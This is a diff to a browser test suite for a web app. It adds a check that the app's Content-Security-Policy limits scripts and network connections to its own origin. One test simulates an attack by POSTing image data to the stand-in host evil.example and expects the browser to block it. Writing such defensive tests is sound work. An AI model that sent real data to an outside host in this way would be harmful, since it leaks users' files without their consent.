@@ -9,6 +9,7 @@ let browser: Browser;
 let context: BrowserContext;
 let page: Page;
 const offOrigin: string[] = [];
+const cspViolations: string[] = [];
 
 function checkerPng(): Buffer {
   const size = 64;
@@ -26,6 +27,7 @@ beforeAll(async () => {
     if (!url.startsWith(site.url) && !url.startsWith('blob:') && !url.startsWith('data:')) offOrigin.push(url);
   });
   page = await context.newPage();
+  page.on('console', (m) => void (/Content Security Policy/i.test(m.text()) && cspViolations.push(m.text())));
 });
 
 afterAll(async () => {
@@ -77,5 +79,16 @@ describe('app shell', () => {
   it('never sends a request off the origin', () => {
     expect(offOrigin).toEqual([]);
     expect(site.requests.length).toBeGreaterThan(3);
+  });
+
+  it('runs under a Content-Security-Policy that allows only its own origin, without breaking it', async () => {
+    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    expect(csp).toMatch(/script-src 'self' 'wasm-unsafe-eval'/);
+    expect(csp).toMatch(/connect-src 'self'/);
+    expect(cspViolations).toEqual([]);
+    // A script trying to send a picture elsewhere is stopped by the browser.
+    const sent = await page.evaluate(() => fetch('https://evil.example/upload', { method: 'POST', body: 'pixels' }).then(() => 'sent', (e) => String(e)));
+    expect(sent).toMatch(/Failed to fetch|TypeError/);
+    expect(cspViolations.some((v) => v.includes('evil.example'))).toBe(true);
   });
 });
